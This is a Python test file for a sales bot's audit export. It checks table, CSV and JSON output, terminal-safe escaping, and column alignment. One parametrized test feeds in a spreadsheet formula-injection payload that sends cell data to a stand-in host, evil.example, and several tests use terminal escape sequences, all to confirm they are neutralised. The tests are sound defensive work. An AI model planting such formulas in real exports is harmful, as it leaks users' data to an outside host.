import csv
import io
import json
import unicodedata
from collections.abc import Iterator
from dataclasses import fields, replace
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.access.requests import AccessRequest, RequestState
from bot.commands.record import Noted, Record, State, Unfamiliar
from bot.deals.outcome import Cause, Effect, Result, Withheld
from bot.deals.wish import Consent
from bot.operations.audit import WIDTH, Format, printable, write, write_access, write_all
from tests.memory import CHANGE

CHANGED = replace(
    CHANGE,
    reference="H4WSYDSE",
    at=datetime(2026, 11, 24, 10, 31, 7, 250_000, tzinfo=UTC),
    user_id="U012AB3CD",
    channel_id="C0SALES",
    text="aB3dE5fG7hJ9kL1mN2pQ won",
    opportunity_id="aB3dE5fG7hJ9kL1mN2pQ",
    trace_id="trace",
    finished_at=datetime(2026, 11, 24, 10, 31, 8, tzinfo=UTC),
)
NAMES = [field.name for field in fields(Record)]

_texts = st.text()
_maybe = st.none() | _texts
_unfamiliar = st.builds(Unfamiliar, _texts)
_times = st.datetimes(timezones=st.just(UTC))
RECORDS = st.builds(
    Record,
    key=_texts,
    reference=_texts,
    at=_times,
    team_id=_texts,
    user_id=_texts,
    channel_id=_texts,
    text=_texts,
    opportunity_id=_texts,
    name=_maybe,
    status=_texts,
    lost_reason_id=_maybe,
    undoes=_maybe,
    state=st.sampled_from(State) | _unfamiliar,
    before=_maybe,
    before_lost_reason_id=_maybe,
    after=_maybe,
    outcome=st.sampled_from([None, *Result, *Cause]) | _unfamiliar,
    effect=st.sampled_from([None, *Effect]) | _unfamiliar,
    attempts=st.integers(min_value=0),
    delivered=_maybe,
    message_ts=_maybe,
    trace_id=_maybe,
    finished_at=st.none() | _times,
    called=_maybe,
    reason=_maybe,
    consent=st.sampled_from(Consent) | _unfamiliar,
    continues=_maybe,
    batch=_maybe,
    note=_maybe,
    public=st.booleans(),
    announced_in=_maybe,
    announced_ts=_maybe,
    said=_maybe,
    withheld=st.none() | st.sampled_from(Withheld) | _unfamiliar,
    deal_owner=_maybe,
)


def _written(output_format: Format, *records: Record) -> str:
    out = io.StringIO(newline="")
    write(records, output_format, out)
    return out.getvalue()


def _row(record: Record) -> str:
    header, row = _written(Format.TABLE, record).splitlines()
    assert header.split() == ["when", "(UTC)", "who", "deal", "result", "delivered", "reference"]
    return row


# --- table ----------------------------------------------------------------------------------------------------------


def test_the_table_has_time_caller_deal_result_delivery_and_reference() -> None:
    assert _written(Format.TABLE, CHANGED, replace(CHANGED, name=None, delivered="direct_message")) == (
        "when (UTC)           who          deal                           "
        "result                       delivered       reference\n"
        "2026-11-24 10:31:07  U012AB3CD    New website                    "
        "open → won                   response url    H4WSYDSE\n"
        "2026-11-24 10:31:07  U012AB3CD    aB3dE5fG7hJ9kL1mN2pQ           "
        "open → won                   direct message  H4WSYDSE\n"
    )


def test_the_documents_show_the_table_as_it_is_written() -> None:
    day, deal = datetime(2026, 11, 24, tzinfo=UTC), "cD4eF6gH8jK1lM3nP5qR"
    changed = replace(CHANGED, user_id="U0ANA")
    undone = replace(changed, undoes="key", before="won", after="open", delivered="channel")
    failed = replace(changed, user_id="U0BEN", opportunity_id=deal, name=None, status="lost", outcome=Cause.NOT_FOUND)
    begun = replace(changed, name="Spring campaign", outcome=None, state=State.RUNNING)
    asked = replace(
        changed, user_id="U0KIM", opportunity_id="", name=None, called="Globex", outcome=Result.AMBIGUOUS, before=None
    )
    chosen = replace(changed, user_id="U0KIM", name="Training", continues="key")
    written = _written(
        Format.TABLE,
        changed,
        replace(undone, at=day.replace(hour=10, minute=32, second=40), reference="K7QM2XRA"),
        replace(failed, at=day.replace(hour=11, minute=2, second=13), reference="P3TZ9WKC", delivered="undelivered"),
        replace(begun, at=day.replace(hour=11, minute=2, second=15), reference="R8VN4YBD"),
        replace(asked, at=day.replace(hour=11, minute=5, second=40), reference="IHVNQIYR"),
        replace(chosen, at=day.replace(hour=11, minute=5, second=52), reference="SQH3KCV7"),
    )

    assert f"```\n{written}```\n" in (Path(__file__).parents[2] / "docs" / "operating" / "data.md").read_text()


def test_a_table_without_commands_says_so() -> None:
    assert _written(Format.TABLE) == "no commands\n"


def test_the_table_fits_a_terminal_of_120_columns() -> None:
    assert 100 < WIDTH <= 120


def test_times_of_any_zone_are_shown_in_utc() -> None:
    in_tokyo = replace(CHANGED, at=CHANGED.at.astimezone(timezone(timedelta(hours=9))))

    assert _row(in_tokyo) == _row(CHANGED)


@pytest.mark.parametrize(
    ("changed", "shown"),
    [
        ({"undoes": "another", "before": "won", "after": "open", "status": "open"}, "won → open (undo) "),
        ({"outcome": Result.ALREADY_SO, "before": "won"}, "won: already so "),
        ({"outcome": Result.OVERTAKEN}, "won: overtaken "),
        ({"outcome": Result.REASON_WANTED, "after": None}, "won: reason wanted "),
        ({"before": "lost", "after": "lost", "status": "lost"}, "lost: reason added "),
        ({"name": None, "called": "Acme", "outcome": Result.AMBIGUOUS}, "Acme "),
        ({"outcome": Cause.NOT_CONFIRMED, "after": None}, "won: not confirmed "),
        ({"outcome": Unfamiliar("snoozed_until"), "after": None}, "won: snoozed until "),
    ],
)
def test_the_result_of_a_command_is_shown_in_words(changed: dict[str, Any], shown: str) -> None:
    assert f"  {shown}" in _row(replace(CHANGED, **changed))


def test_highlevels_own_words_of_a_refusal_are_a_line_below_its_command() -> None:
    refused = replace(CHANGED, outcome=Cause.INVALID, said="status must be one of these\x1b[2J")
    _, row, below, next_row = _written(Format.TABLE, refused, CHANGED).splitlines()

    assert "  won: invalid  " in row
    assert below == f"{' ' * 21}HighLevel: status must be one of these\N{REPLACEMENT CHARACTER}[2J"
    assert "  open → won  " in next_row
    assert [len(line) for line in _written(Format.TABLE, replace(refused, said="x" * 500)).splitlines()][2] == WIDTH


def test_a_command_that_was_not_accepted_is_shown_with_why_in_place_of_a_deal() -> None:
    assert _both(Format.TABLE).splitlines()[1:] == [
        f"2026-11-24 10:30:00  U0BEN        {'(not allowed)':31}denied{'':39}P3TZ9WKC",
        _row(CHANGED),
        f"{' ' * 21}HighLevel: no",
    ]


def test_csv_has_a_column_for_why_a_command_was_not_accepted() -> None:
    header, noted, changed = csv.reader(io.StringIO(_both(Format.CSV)))

    assert header == [*NAMES, "detail"]
    known = {name: value for name, value in zip(header, noted, strict=True) if value}
    assert known == {
        "reference": "P3TZ9WKC",
        "at": "2026-11-24T10:30:00+00:00",
        "team_id": "T1",
        "user_id": "U0BEN",
        "channel_id": "C0SALES",
        "outcome": "denied",
        "detail": "not_allowed",
    }
    assert (changed[NAMES.index("said")], changed[-1]) == ("no", "")


def test_json_has_every_field_of_both() -> None:
    noted, changed = json.loads(_both(Format.JSON))

    assert list(noted) == list(changed) == [*NAMES, "detail"]
    assert (noted["key"], noted["outcome"], noted["detail"]) == (None, "denied", "not_allowed")
    assert (changed["key"], changed["outcome"], changed["detail"]) == ("key", "changed", None)


def _both(output_format: Format) -> str:
    at = datetime(2026, 11, 24, 10, 30, tzinfo=UTC)
    out = io.StringIO(newline="")
    write_all(
        [
            Noted("P3TZ9WKC", at, "T1", "U0BEN", "C0SALES", "denied", "not_allowed"),
            replace(CHANGED, said="no"),
        ],
        output_format,
        out,
    )
    return out.getvalue()


def test_an_unfinished_command_is_shown_as_in_progress() -> None:
    begun = replace(CHANGED, state=State.RUNNING, outcome=None, after=None, delivered=None, finished_at=None)
    assert _row(begun).count("in progress") == 2
    assert "won: in progress" in _row(begun)

    not_yet_told = replace(CHANGED, state=State.ANSWERED, delivered=None, finished_at=None)
    assert "open → won" in _row(not_yet_told)
    assert "in progress" in _row(not_yet_told)


def test_a_state_of_a_later_version_is_shown_as_its_word_until_the_delivery_is_known() -> None:
    scheduled = replace(CHANGED, state=Unfamiliar("scheduled_for_later"), delivered=None)

    assert "  scheduled for…  " in _row(scheduled)
    assert "  direct message  " in _row(replace(scheduled, delivered="direct_message"))


def test_an_undelivered_reply_is_shown() -> None:
    assert "undelivered" in _row(replace(CHANGED, delivered="undelivered"))


def test_a_finished_command_without_a_delivery_shows_none() -> None:
    row = _row(replace(CHANGED, outcome=Cause.INTERRUPTED, delivered=None))

    assert "won: interrupted" in row
    assert "in progress" not in row


def test_a_long_name_is_cut_with_an_ellipsis_and_the_columns_stay_aligned() -> None:
    row = _row(replace(CHANGED, name="New website for the company with the long name"))

    assert "New website for the company …  open" in row
    assert row.index("H4WSYDSE") == _row(CHANGED).index("H4WSYDSE")


@pytest.mark.parametrize("name", ["東京の新しいウェブサイト", "東" * 40, "a" + "東" * 40, "e\u0301te\u0301"])
def test_columns_stay_aligned_with_letters_of_two_cells_or_none(name: str) -> None:
    before, _ = _row(replace(CHANGED, name=name)).split("open →")

    assert _cells(before) == _row(CHANGED).index("open →")


def test_the_number_of_accents_in_a_cell_is_limited() -> None:
    assert len(_row(replace(CHANGED, name="e" + "\u0301" * 1000))) < 2 * WIDTH


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("a\x1b[2Jb", "a�[2Jb"),
        ("a\nb\tc\rd", "a b c d"),
        ("a\x9b31mb", "a�31mb"),
        ("a\u202eb", "a�b"),
        ("a\u2028b\xa0c", "a b c"),
        ("Müller → 東京", "Müller → 東京"),
    ],
)
def test_control_characters_do_not_reach_the_terminal(typed: str, shown: str) -> None:
    assert printable(typed) == shown
    assert f"  {shown} " in _row(replace(CHANGED, name=typed))


@given(st.lists(RECORDS, max_size=4))
def test_no_line_of_the_table_is_too_wide_or_has_a_control_character(records: list[Record]) -> None:
    lines = _written(Format.TABLE, *records).split("\n")

    assert lines.pop() == ""
    below = sum(bool(record.said) for record in records)
    assert len(lines) == len(records) + below + 1 if records else lines == ["no commands"]
    assert all(_cells(line) <= WIDTH and line.isprintable() for line in lines)


def _cells(text: str) -> int:
    letters = [character for character in text if unicodedata.category(character) not in {"Mn", "Me"}]
    return len(letters) + sum(unicodedata.east_asian_width(letter) in {"W", "F"} for letter in letters)


# --- csv ------------------------------------------------------------------------------------------------------------


def test_csv_has_a_header_every_field_and_the_line_ends_of_rfc_4180() -> None:
    assert _written(Format.CSV) == ",".join(NAMES) + "\r\n"
    assert _written(Format.CSV, CHANGED).endswith(
        "\r\nkey,H4WSYDSE,2026-11-24T10:31:07.250000+00:00,T1,U012AB3CD,C0SALES,aB3dE5fG7hJ9kL1mN2pQ won,"
        "aB3dE5fG7hJ9kL1mN2pQ,New website,won,,,finished,open,,won,changed,,0,response_url,,trace,"
        "2026-11-24T10:31:08+00:00,,,given,,,,True,,,,,,,,,,\r\n"
    )


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "'"])  # noqa: RUF001 - the point
def test_a_cell_that_looks_like_a_formula_gets_an_apostrophe(first: str) -> None:
    formula = f'{first}HYPERLINK("http://evil.example?"&A1)'
    _, row = csv.reader(io.StringIO(_written(Format.CSV, replace(CHANGED, text=formula)), newline=""))

    assert row[NAMES.index("text")] == f"'{formula}"


@given(st.lists(RECORDS, max_size=4))
def test_csv_read_back_without_the_apostrophe_is_every_field(records: list[Record]) -> None:
    header, *rows = csv.reader(io.StringIO(_written(Format.CSV, *records), newline=""), strict=True)

    assert header == NAMES
    assert [[cell.removeprefix("'") for cell in row] for row in rows] == [
        ["" if value is None else str(value) for value in _values(record)] for record in records
    ]


# --- json -----------------------------------------------------------------------------------------------------------


@given(st.lists(RECORDS, max_size=4))
def test_json_is_an_array_with_every_field_of_a_record_on_one_line(records: list[Record]) -> None:
    written = _written(Format.JSON, *records)

    assert json.loads(written) == [dict(zip(NAMES, _values(record), strict=True)) for record in records]
    assert written.isascii()
    assert written.count("\n") == (len(records) + 2 if records else 1)


def _values(record: Record) -> list[object]:
    values = [getattr(record, name) for name in NAMES]
    values = [value.isoformat() if isinstance(value, datetime) else value for value in values]
    return [value.word if isinstance(value, Unfamiliar) else value for value in values]


# --- all ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("output_format", Format)
def test_each_record_is_written_before_the_next_is_read(output_format: Format) -> None:
    out = io.StringIO()
    seen = []

    def records() -> Iterator[Record]:
        for number in range(3):
            yield replace(CHANGED, reference=f"REF-{number}")
            seen.append(out.getvalue().count("REF-"))

    write(records(), output_format, out)

    assert seen == [1, 2, 3]


# --- who was let in -------------------------------------------------------------------------------------------------

ASKED = AccessRequest("H4WSYDSE", "U0BEN", "T1", "C0SALES", datetime(2026, 11, 25, 11, tzinfo=UTC))
APPROVED = replace(
    ASKED, state=RequestState.APPROVED, decided_by="U0KIM", decided_at=datetime(2026, 11, 25, 12, 30, tzinfo=UTC)
)
REVOKED = replace(
    APPROVED, state=RequestState.REVOKED, revoked_by="operator", revoked_at=datetime(2026, 11, 26, 8, tzinfo=UTC)
)


def _access(output_format: Format, *rows: AccessRequest) -> str:
    out = io.StringIO(newline="")
    write_access(iter(rows), output_format, out)
    return out.getvalue()


def test_requests_for_access_are_a_table() -> None:
    assert _access(Format.TABLE, ASKED, APPROVED, REVOKED).splitlines() == [
        "requested (UTC)      who          where        status    by           since (UTC)          reference",
        "2026-11-25 11:00:00  U0BEN        C0SALES      open                                        H4WSYDSE",
        "2026-11-25 11:00:00  U0BEN        C0SALES      approved  U0KIM        2026-11-25 12:30:00  H4WSYDSE",
        "2026-11-25 11:00:00  U0BEN        C0SALES      revoked   operator     2026-11-26 08:00:00  H4WSYDSE",
    ]
    assert _access(Format.TABLE) == "no one\n"


def test_json_and_csv_have_every_field_of_a_request() -> None:
    (row,) = json.loads(_access(Format.JSON, REVOKED))
    assert row["revoked_at"] == "2026-11-26T08:00:00+00:00"
    assert list(row) == [field.name for field in fields(AccessRequest)]
    header, line = csv.reader(io.StringIO(_access(Format.CSV, REVOKED)))
    assert header == list(row)
    assert line[:2] == ["H4WSYDSE", "U0BEN"]
